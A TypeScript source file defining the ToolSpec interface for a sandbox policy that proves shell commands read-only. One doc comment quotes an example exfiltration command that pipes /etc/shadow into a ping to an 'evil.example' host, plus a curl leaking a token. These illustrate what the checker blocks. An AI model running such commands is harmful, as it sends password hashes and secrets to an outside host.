import type { JailGrant } from "../jail-grant.ts";
import type { ProofContext, Verdict } from "./context.ts";
import type { ProofWord } from "./proof-word.ts";

/**
 * What a read-only tool (or one subcommand of it) accepts. Everything not listed is outside the
 * proof: an unknown option, subcommand or argument form makes the command not read-only.
 */
export interface ToolSpec {
  /** Short flags without a value, one character each (`"alh1"`); they bundle (`-la`). */
  flags?: string;
  /** Short options that take a value (`-n 5`, `-n5`, or last in a bundle: `-fn5`). */
  valued?: string;
  /** Long options without a value. */
  long?: readonly string[];
  /** Long options with a value (`--tail=5` or `--tail 5`). */
  longValued?: readonly string[];
  /**
   * Options whose value is optional: the tool takes the next word as the value only when it has the
   * shape the test accepts (journalctl reads `-n 20` as a count but `-n --rotate` as two options),
   * never when the test is `() => false` (`--color` is `--color=WHEN` or nothing). The option must
   * also be listed in `valued` or `longValued`; an attached value is always its own.
   */
  optionalValue?: Readonly<Record<string, (next: string) => boolean>>;
  /** Options whose value is restricted (`-o` only to `/dev/null`): option → test of the value. */
  values?: Readonly<Record<string, (value: string) => boolean>>;
  /**
   * Options the tool knows but the proof refuses, each with the words that tell the next step
   * (`docker -H`: talks to any daemon). Short ones as `-H`, long ones as `--host`.
   */
  refused?: Readonly<Record<string, string>>;
  /** Options spelled with one dash and a long name (`find -name`, `openssl -noout`): no bundling. */
  singleDashLong?: boolean;
  /**
   * Every option this tool accepts has been reviewed as read-only, so a word only known at run
   * time (`$x`, `*.log`) may stand anywhere. Without it such a word is only proven after `--`.
   */
  anyOption?: boolean;
  /** Subcommands by first positional word; a word not listed is outside the proof. */
  sub?: Readonly<Record<string, ToolSpec>>;
  /** Whether the command may run with no subcommand (`docker compose` alone prints help). */
  bareOk?: boolean;
  /** How many positional arguments at most (output files hide in the second: `uniq in out`). */
  maxPositionals?: number;
  /**
   * The tool joins its arguments into one command line in which `;` and newlines separate
   * commands (`nft list ruleset \; flush ruleset`): every argument must be fixed text without them.
   */
  argvScript?: boolean;
  /**
   * The tool talks to another host: every argument must be fixed text, since a run-time word
   * (`ping $(cat /etc/shadow | head -1).evil.example`, `curl …/$TOKEN`) carries local data away.
   */
  network?: boolean;
  /** The tool sends its standard input to the peer: that input must be text the command shows. */
  sendsStdin?: boolean;
  /**
   * The tool sends its standard input to a service as a request (`openssl s_client`): it is proven
   * only with no input at all (`< /dev/null`, or the transport's empty input).
   */
  stdinIsRequest?: boolean;
  /**
   * What the read-only jail must open for this tool or subcommand (policy/jail-grant.ts): fixed,
   * or read from the arguments (`ss -p` needs other processes' sockets, `ss -t` only netlink).
   * Devices the arguments name are granted by the proof itself (grants.ts); `network` tools get
   * the network. A subcommand's grants add to its tool's.
   */
  grants?: readonly JailGrant[] | ((args: readonly ProofWord[]) => readonly JailGrant[]);
  /** Programs the tool itself runs to do its work (`zcat` runs `gzip`), named for the oracle. */
  helpers?: readonly string[];
  /** Replaces the table: the whole argument list is judged by this function (`pct exec`). */
  custom?: (args: readonly ProofWord[], ctx: ProofContext) => Verdict;
  /** A check over the whole argv for what a table cannot say (mini-languages, required options). */
  check?: (args: readonly ProofWord[], ctx: ProofContext) => Verdict;
}

export function opts(...names: string[]): string[] {
  return names;
}

/** Values of `-o`-style output options that write nothing. */
export const toNowhere = (value: string) => value === "/dev/null" || value === "-";

/** Short flags that are a number (`head -5`, `grep -3`): a count, never a file or a program. */
export const DIGITS = "0123456789";
